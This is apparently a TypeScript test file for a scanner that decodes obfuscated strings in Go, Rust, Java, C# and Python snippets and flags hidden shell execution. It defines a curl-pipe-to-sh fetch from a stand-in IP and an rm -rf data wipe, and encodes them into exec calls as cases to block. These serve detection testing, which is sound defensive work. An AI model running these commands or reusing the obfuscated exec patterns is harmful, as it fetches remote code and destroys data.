import assert from "node:assert/strict";
import { deobfuscate } from "./_deobf.ts";
import { deobfCases, enc } from "./_deobf_testing.ts";

const xor = (s: string, k: number) =>
  [...s].map((c) => (c.charCodeAt(0) ^ k).toString(16).padStart(2, "0")).join("");
const FETCH = "curl -fsSL http://203.0.113.50/i.sh | sh";
const WIPE = "rm -rf /var/lib/docker /srv/registry";
const SAFE = "echo build finished ok";

Deno.test("deobf compiled: decoders of Go, Rust, Java and C# round-trip", () => {
  const has = (t: string, s: string) => deobfuscate(t).some((v) => v.includes(s));
  assert.ok(has(`b, _ := hex.DecodeString("${enc.hex(SAFE)}")`, SAFE));
  assert.ok(has(`b, _ := base64.StdEncoding.DecodeString("${enc.b64(SAFE)}")`, SAFE));
  assert.ok(has(`let s: String = "${enc.rev(SAFE)}".chars().rev().collect();`, SAFE));
  assert.ok(has(`String s = new StringBuilder("${enc.rev(SAFE)}").reverse().toString();`, SAFE));
  assert.ok(
    has(`var s = Encoding.UTF8.GetString(Convert.FromBase64String("${enc.b64(SAFE)}"));`, SAFE),
  );
  assert.ok(
    has(`b, _ := hex.DecodeString("${xor(SAFE, 0x2a)}")\nfor i := range b { b[i] ^= 0x2a }`, SAFE),
  );
});

deobfCases("compiled", [
  {
    id: "decoded",
    block: [
      `cmd := exec.Command("sh", "-c", string(mustHex("${
        enc.hex(FETCH)
      }")))\nfunc mustHex(s string) []byte { b, _ := hex.DecodeString("${
        enc.hex(FETCH)
      }"); return b }`,
      `let s: String = "${
        enc.rev(FETCH)
      }".chars().rev().collect();\nCommand::new("sh").arg("-c").arg(&s).status()?;`,
      `byte[] d = Base64.getDecoder().decode("${
        enc.b64(FETCH)
      }");\nRuntime.getRuntime().exec(new String[]{"sh","-c",new String(d)});`,
      `b, _ := hex.DecodeString("${
        xor(WIPE, 0x5a)
      }")\nfor i := range b {\n\tb[i] ^= 0x5a\n}\nexec.Command("/bin/sh", "-c", string(b)).Run()`,
      `data = bytes(c ^ 0x11 for c in bytes.fromhex("${
        xor(WIPE, 0x11)
      }"))\nos.system(data.decode())`,
    ],
    pass: [
      `b, _ := hex.DecodeString("${enc.hex(SAFE)}")\nexec.Command("sh", "-c", string(b)).Run()`,
      `let s: String = "${enc.rev(SAFE)}".chars().rev().collect();\nprintln!("{}", s);`,
      `byte[] d = Base64.getDecoder().decode("${
        enc.b64(SAFE)
      }");\nSystem.out.println(new String(d));`,
      `b, _ := hex.DecodeString("${
        xor(SAFE, 0x5a)
      }")\nfor i := range b {\n\tb[i] ^= 0x5a\n}\nfmt.Println(string(b))`,
      `checksum ^= 0x5a; crc = (crc >> 8) ^ table[(crc ^ b) & 0xff]`,
    ],
  },
]);
